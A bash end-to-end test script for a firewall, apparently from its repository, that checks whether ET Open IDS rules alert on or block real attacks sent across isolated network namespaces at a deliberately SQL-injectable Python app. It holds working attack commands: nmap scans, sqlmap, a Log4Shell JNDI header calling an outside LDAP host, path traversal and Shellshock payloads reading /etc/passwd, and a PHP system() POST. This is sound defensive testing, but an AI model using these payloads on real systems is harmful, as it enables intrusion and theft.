#!/usr/bin/env bash
# Real attack tools from Debian through the real rampart-firewall with ET Open's rules
# (issue 13, "Real tests"), in the namespaces of scripts/lib/firewall-topology.sh: pod A,
# the attacker, sends from an outside address (198.51.100.7, so ET's $EXTERNAL_NET ->
# $HOME_NET rules apply) to pod B, which runs Tests/Firewall/vulnerable_app.py on port 80
# (a Python web shop whose /item?id= is injectable into SQLite, logging every request it
# receives). The tools:
#
#   syn       nmap -sS -p 80-82 (a SYN scan: raw SYNs with nmap's window of 1024)
#   version   nmap -sT -sV -p 80 (version detection; -sT so its SYNs are the kernel's)
#   nse       nmap -sT -p 80 --script http-sql-injection (the scripting engine's spider)
#   sqlmap    sqlmap --batch --level 1 --risk 1 --technique=B against /item?id=1
#   log4shell curl with ${jndi:ldap://...} in a header          (CVE-2021-44228)
#   traversal curl --path-as-is /../../../../etc/passwd
#   shellshock curl with a "() { :; };" User-Agent               (CVE-2014-6271)
#   php       curl POSTing "<?php system(...) ?>"
#
# each run three times, through three firewalls:
#
#   1. alert:  the whole ET Open folder as shipped (its rules alert) plus local.rules:
#              every attack reaches the app, and the sids below alert "allowed"; every
#              sid each tool trips is printed (docs/threats.md, "Tested with real attack tools");
#   2. block:  only those sids, turned into drop or reject rules: each attack is alerted
#              "blocked" and never reaches the app (its log, or pod B's kernel's TCP
#              counters for the SYN scan, show nothing of it), sqlmap finds nothing;
#   3. none:   no rule for these tools (one local rule nothing sends): every attack
#              reaches the app, sqlmap finds the injection, and nothing alerts.
#
#   scripts/firewall-tools-e2e.sh .build/debug/rampart-firewall
#   RAMPART_ET_OPEN=/path/to/et-open/rules scripts/firewall-tools-e2e.sh ...
#
# ET Open is read from ../shared/data/et-open-2024-04/rules beside the repository (never
# copied into it); without it the test is skipped. ET's SYN-scan rule (2009582, disabled
# in ET Open) uses `fragbits`, which Rampart refuses: the scan is matched by a LOCAL rule,
# 2009582 without fragbits. nikto is not in Debian 12's main archive (non-free only), so
# it is not run. Never touches the root namespace's interfaces; removes everything it made.
set -euo pipefail
FIREWALL=${1:?usage: firewall-tools-e2e.sh path/to/rampart-firewall}
FIREWALL=$(readlink -f "$FIREWALL")
HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
ET=${RAMPART_ET_OPEN:-$HERE/../../shared/data/et-open-2024-04/rules}
[ "$(id -u)" = 0 ] || { echo "SKIP: needs root (network namespaces)"; exit 77; }
[ -d "$ET" ] || { echo "SKIP: ET Open rules not found at $ET (set RAMPART_ET_OPEN; see /work/shared/data/README.md)"; exit 77; }
PYTHON=$(command -v /usr/bin/python3 || command -v python3 || true)
for tool in ip curl nmap sqlmap "$PYTHON"; do
    command -v "$tool" >/dev/null || { echo "SKIP: $tool missing (scripts/setup.sh installs it)"; exit 77; }
done
APP=$HERE/../Tests/Firewall/vulnerable_app.py

source "$HERE/lib/firewall-e2e.sh"
firewall_e2e_begin rpt tools
FWPID=""

firewall_topology_up
steer on
# The attacker's outside address: pod A sends from it, the node routes it to pod A's veth
# and sends what is addressed to it into the tunnel, as it does for the pods' own addresses.
ATTACKER=198.51.100.7
VICTIM=10.244.1.20
n $PODA ip addr add $ATTACKER/32 dev eth0
n $PODA ip route replace default via 169.254.1.1 dev eth0 src $ATTACKER
n $NODE ip route add $ATTACKER/32 dev vA
n $NODE ip rule add to $ATTACKER lookup 77 pref 210

# --- The rules of each phase ---------------------------------------------------------
# The sids the tools must trip, with the action each takes in the block phase: drop for
# the SYN scan and Log4Shell (the packet vanishes: nmap sees "filtered", curl times out),
# reject for the others (the session is reset: the tools fail at once).
declare -A ACTION=(
    [9909582]=drop      # LOCAL: ET 2009582 "ET SCAN NMAP -sS window 1024" without fragbits
    [2009358]=reject    # ET SCAN Nmap Scripting Engine User-Agent Detected
    [2013778]=reject    # ET SCAN NMAP SQL Spider Scan
    [2008538]=reject    # ET SCAN Sqlmap SQL Injection Scan (threshold: type limit, count 2)
    [2034647]=drop      # ET EXPLOIT Apache log4j RCE Attempt (http ldap)
    [2049400]=reject    # ET WEB_SERVER /etc/passwd Detected in URI
    [2019232]=reject    # ET WEB_SERVER Possible CVE-2014-6271 Attempt in Headers
    [9900002]=reject    # LOCAL: nmap's version-detection probe (ET Open has no rule for it)
    [2020102]=reject    # ET WEB_SERVER PHP System Command in HTTP POST
)
# tool -> the sids (space separated) that must alert for it in the alert and block phases.
declare -A EXPECT=(
    [syn]="9909582"
    [version]="9900002"
    [nse]="2009358"
    [sqlmap]="2008538"
    [log4shell]="2034647"
    [traversal]="2049400"
    [shellshock]="2019232"
    [php]="2020102"
)
TOOLS="syn version nse sqlmap log4shell traversal shellshock php"

# One rule of ET Open by sid (enabled or commented out), as written there.
et_rule() {
    local line
    line=$(grep -h -m1 "sid:$1;" "$ET"/*.rules | sed 's/^# *//') || true
    [ -n "$line" ] || { echo "FAIL: sid $1 is not in $ET" >&2; exit 1; }
    echo "$line"
}
# LOCAL rules, where ET Open has none the tool trips:
# - 9909582: ET's SYN-scan rule 2009582 (disabled in ET Open) without `fragbits:!D;`, which
#   Rampart refuses;
# - 9900002: nmap's version detection (-sV) asks an HTTP server for a file that cannot
#   exist, /nice%20ports%2C/Tri%6Eity.txt%2ebak (its FourOhFourRequest probe); no ET Open
#   rule names it (its GetRequest and HTTPOptions probes are plain requests).
local_rules() {
    et_rule 2009582 | sed -e 's/fragbits:!D; //' -e 's/sid:2009582;/sid:9909582;/' \
        -e 's/msg:"ET SCAN/msg:"LOCAL (ET 2009582 without fragbits) SCAN/'
    [ "${1:-}" = all ] || return 0
    echo 'alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"LOCAL SCAN nmap version detection probe"; flow:established,to_server; http.uri; content:"/nice ports,/Trinity.txt.bak"; fast_pattern; classtype:attempted-recon; sid:9900002; rev:1;)'
}
local_rule() { local_rules all | grep "sid:$1;"; }

mkdir -p $WORK/alert $WORK/block $WORK/none
for file in "$ET"/*.rules; do ln -s "$(readlink -f "$file")" $WORK/alert/; done
for dir in alert block none; do ln -s "$(readlink -f "$ET/classification.config")" $WORK/$dir/; done
# The disabled SYN rule is not in the shipped set: enable the local form beside it.
local_rules all > $WORK/alert/zz-local.rules
{
    for sid in "${!ACTION[@]}"; do
        if [ "$sid" -ge 9900000 ]; then local_rule "$sid"; else et_rule "$sid"; fi | sed -E "s/^(alert|drop|reject) /${ACTION[$sid]} /"
    done
} > $WORK/block/block.rules
echo 'alert http any any -> any any (msg:"LOCAL nothing sends this"; flow:established,to_server; http.uri; content:"/never-requested-by-the-test"; sid:9900001; rev:1;)' > $WORK/none/none.rules

# --- The firewall and the application -----------------------------------------------
start_firewall() {  # $1: the phase (its rules folder)
    cat > $WORK/firewall.yaml <<YAML
apiVersion: rampart.io/v1
kind: FirewallConfiguration
metadata: {name: e2e-tools}
spec:
  listen: 0.0.0.0:6080
  admin: 127.0.0.1:9680
  vnis: [7]
  tunnelSourceNetworks: [10.200.0.0/30]
  events: $WORK/$1.eve.json
  rules: $1
---
apiVersion: rampart.io/v1
kind: SecurityPolicy
metadata: {name: e2e-tools}
spec:
  zones:
    - {name: outside, networks: [$ATTACKER/32]}
    - {name: pod-b, networks: [$VICTIM/32]}
  rules:
    - {name: web, from: [outside], to: [pod-b], services: [tcp/80, tcp/81, tcp/82], action: allow}
  defaults:
    intrazone: {action: allow}
    interzone: {action: deny}
YAML
    ip netns exec $FW "$FIREWALL" --config $WORK/firewall.yaml --workers 1 > $WORK/$1.firewall.out 2> $WORK/$1.firewall.err &
    FWPID=$!; PIDS+=($FWPID)
    for _ in $(seq 300); do
        n $FW curl -s -o /dev/null http://127.0.0.1:9680/readyz && return 0
        kill -0 $FWPID 2>/dev/null || break
        sleep 0.2
    done
    echo "FAIL: the firewall did not start ($1)"; cat $WORK/$1.firewall.err; exit 1
}
stop_firewall() {
    kill -TERM $FWPID; wait $FWPID || true; FWPID=""
}

ip netns exec $PODB "$PYTHON" "$APP" $VICTIM 80 $WORK/app.log > $WORK/app.out 2>&1 &
APPPID=$!; PIDS+=($APPPID)
for _ in $(seq 100); do grep -q ready $WORK/app.out 2>/dev/null && break; sleep 0.1; done
grep -q ready $WORK/app.out || { echo "FAIL: the application did not start"; cat $WORK/app.out; exit 1; }
touch $WORK/app.log

# --- The attacks ----------------------------------------------------------------------
URL=http://$VICTIM
tcp_in_segments() { n $PODB awk '/^Tcp:/ { if (++seen == 2) print $11 }' /proc/net/snmp; }
attack() {  # $1: the tool; prints nothing, leaves its output in $WORK/$PHASE.$1.out
    local out=$WORK/$PHASE.$1.out
    case $1 in
    syn) n $PODA timeout 60 nmap -n -Pn -sS -p 80-82 --max-retries 1 --host-timeout 30s $VICTIM > $out 2>&1 || true ;;
    version) n $PODA timeout 60 nmap -n -Pn -sT -sV --version-light -p 80 --host-timeout 40s $VICTIM > $out 2>&1 || true ;;
    nse) n $PODA timeout 60 nmap -n -Pn -sT -p 80 --script http-sql-injection --host-timeout 40s $VICTIM > $out 2>&1 || true ;;
    sqlmap)
        HOME=$WORK n $PODA timeout 90 sqlmap -u "$URL/item?id=1" --batch --level 1 --risk 1 --technique=B \
            --timeout 3 --retries 0 --flush-session --output-dir $WORK/sqlmap-$PHASE > $out 2>&1 || true ;;
    log4shell) curl_attack $out -H 'X-Api-Version: ${jndi:ldap://198.51.100.7:1389/Exploit}' "$URL/" ;;
    traversal) curl_attack $out --path-as-is "$URL/../../../../etc/passwd" ;;
    shellshock) curl_attack $out -A '() { :; }; /bin/bash -c "cat /etc/passwd"' "$URL/cgi-bin/status" ;;
    php) curl_attack $out --data-binary '<?php system("id"); ?>' "$URL/index.php" ;;
    esac
}
curl_attack() {
    local out=$1; shift
    local status=0
    n $PODA curl -s -o /dev/null -w '%{http_code}\n' --connect-timeout 3 --max-time 4 "$@" > $out 2>&1 || status=$?
    echo "curl exit $status" >> $out
}
# What reached the application from each tool (its log lines; for the SYN scan, TCP
# segments pod B's kernel received).
reached() {  # $1: tool, $2: the app log lines the tool's run added
    case $1 in
    syn) cat $WORK/$PHASE.syn.segments ;;
    version) grep -c 'Tri%6Eity' "$2" || true ;;
    nse) grep -c 'Nmap Scripting Engine' "$2" || true ;;
    sqlmap) grep -c 'User-Agent=sqlmap' "$2" || true ;;
    log4shell) grep -c 'jndi:ldap' "$2" || true ;;
    traversal) grep -c 'etc/passwd' "$2" || true ;;
    shellshock) grep -c '() {' "$2" || true ;;
    php) grep -c '^POST /index.php' "$2" || true ;;
    esac
}

# Runs every tool through the firewall of phase $1; per tool, writes the sids that
# alerted ($PHASE.TOOL.sids: "sid action count" lines) and what reached the app.
run_phase() {
    PHASE=$1
    local started lines before after app_before segments
    started=$(date +%s)
    start_firewall $PHASE
    echo "== phase $PHASE: $(grep -o 'signatures[^"]*\|[0-9]* of [0-9]* rules active[^"]*' $WORK/$PHASE.firewall.err | head -1)"
    for tool in $TOOLS; do
        before=$(wc -l < $WORK/$PHASE.eve.json 2>/dev/null || echo 0)
        app_before=$(wc -l < $WORK/app.log)
        segments=$(tcp_in_segments)
        attack $tool
        [ $tool = syn ] && echo $(( $(tcp_in_segments) - segments )) > $WORK/$PHASE.syn.segments
        sleep 0.8   # the event log is flushed every publish interval
        tail -n +$((app_before + 1)) $WORK/app.log > $WORK/$PHASE.$tool.app
        tail -n +$((before + 1)) $WORK/$PHASE.eve.json 2>/dev/null | grep '"event_type":"alert"' \
            | sed -n 's/.*"action":"\([a-z]*\)".*"signature_id":\([0-9]*\).*/\2 \1/p' | sort | uniq -c \
            | awk '{ print $2, $3, $1 }' > $WORK/$PHASE.$tool.sids || true
        reached $tool $WORK/$PHASE.$tool.app > $WORK/$PHASE.$tool.reached
        printf '   %-10s reached the app: %-4s alerts: %s\n' $tool "$(cat $WORK/$PHASE.$tool.reached)" \
            "$(awk '{ printf "%s%s(%s x%s)", sep, $1, $2, $3; sep = " " }' $WORK/$PHASE.$tool.sids)"
    done
    stop_firewall
    echo "   (phase $PHASE took $(( $(date +%s) - started )) s)"
}

# An alert of sid $3 with action $4 among the tool's ($2) alerts in phase $1.
alerted() { grep -q "^$3 $4 " $WORK/$1.$2.sids; }
sids_of() { cut -d' ' -f1 $WORK/$1.$2.sids | sort -u | tr '\n' ' '; }

run_phase alert
for tool in $TOOLS; do
    for sid in ${EXPECT[$tool]}; do
        alerted alert $tool $sid allowed && pass "alert: $tool trips sid $sid, logged allowed" \
            || fail "alert: $tool did not trip sid $sid (alerts: $(sids_of alert $tool))"
    done
    ! grep -q ' blocked ' $WORK/alert.$tool.sids && pass "alert: nothing of $tool is blocked by alert rules" || fail "alert: $tool blocked"
    [ "$(cat $WORK/alert.$tool.reached)" -ge 1 ] && pass "alert: $tool reached the app" || fail "alert: $tool did not reach the app"
done
grep -q '^80/tcp  *open' $WORK/alert.syn.out && pass "alert: the SYN scan sees port 80 open" || fail "alert: SYN scan: $(grep tcp $WORK/alert.syn.out)"
grep -q 'Parameter: id (GET)' $WORK/alert.sqlmap.out && pass "alert: sqlmap finds the injection in id" || fail "alert: sqlmap found nothing: $(tail -5 $WORK/alert.sqlmap.out)"
grep -qi 'sqlspider' $WORK/alert.nse.app && pass "alert: nmap's http-sql-injection reached the app with its probe" || fail "alert: no sqlspider probe reached the app"

run_phase block
for tool in $TOOLS; do
    for sid in ${EXPECT[$tool]}; do
        alerted block $tool $sid blocked && pass "block: $tool trips sid $sid, logged blocked" \
            || fail "block: $tool: no blocked alert of sid $sid (alerts: $(sids_of block $tool))"
    done
    [ "$(cat $WORK/block.$tool.reached)" = 0 ] && pass "block: nothing of $tool reached the app" \
        || fail "block: $tool reached the app $(cat $WORK/block.$tool.reached) time(s): $(head -3 $WORK/block.$tool.app)"
done
grep -q '^80/tcp  *filtered' $WORK/block.syn.out && pass "block: the SYN scan sees port 80 filtered" || fail "block: SYN scan: $(grep tcp $WORK/block.syn.out)"
! grep -q 'Parameter: id (GET)' $WORK/block.sqlmap.out && pass "block: sqlmap finds nothing" || fail "block: sqlmap found the injection"
grep -q 'curl exit 28' $WORK/block.log4shell.out && pass "block: the Log4Shell request is dropped (curl timed out)" || fail "block: log4shell: $(cat $WORK/block.log4shell.out)"
grep -Eq 'curl exit (52|56|7)$' $WORK/block.traversal.out && pass "block: the traversal request is reset ($(tail -1 $WORK/block.traversal.out))" || fail "block: traversal: $(cat $WORK/block.traversal.out)"

run_phase none
for tool in $TOOLS; do
    [ ! -s $WORK/none.$tool.sids ] && pass "none: $tool raises no alert" || fail "none: $tool alerts: $(sids_of none $tool)"
    [ "$(cat $WORK/none.$tool.reached)" -ge 1 ] && pass "none: $tool reached the app" || fail "none: $tool did not reach the app"
done
grep -q '^80/tcp  *open' $WORK/none.syn.out && pass "none: the SYN scan sees port 80 open" || fail "none: SYN scan: $(grep tcp $WORK/none.syn.out)"
grep -q 'Parameter: id (GET)' $WORK/none.sqlmap.out && pass "none: sqlmap finds the injection in id" || fail "none: sqlmap found nothing"
[ "$(grep -c '"event_type":"alert"' $WORK/none.eve.json)" = 0 ] && pass "none: no alert record at all" || fail "none: alert records written"

echo "== sids each tool tripped with the whole ET Open set (alert phase):"
for tool in $TOOLS; do printf '   %-10s %s\n' $tool "$(sids_of alert $tool)"; done

if [ $failures -gt 0 ]; then
    for phase in alert block none; do echo "--- firewall stderr ($phase)"; tail -20 $WORK/$phase.firewall.err; done
    echo "--- app log"; tail -40 $WORK/app.log
    echo "FAILED: $failures check(s)"
    exit 1
fi
echo "ALL PASSED"
